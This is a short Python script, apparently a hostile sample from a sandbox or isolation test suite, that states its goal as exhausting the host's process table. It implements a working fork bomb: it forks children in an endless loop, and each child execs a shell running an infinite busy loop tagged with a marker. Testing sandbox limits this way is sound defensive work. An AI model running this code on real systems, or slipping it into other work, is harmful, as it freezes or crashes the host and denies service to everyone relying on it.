"""Goal: exhaust the host's process table (a fork bomb that never stops)."""

import os

from _hostile import CTX

tag = CTX["marker"]
while True:
    try:
        if os.fork() == 0:
            try:
                os.execv("/bin/sh", ["/bin/sh", "-c", f"while :; do :; done # {tag}"])
            except OSError:
                pass
    except OSError:
        pass
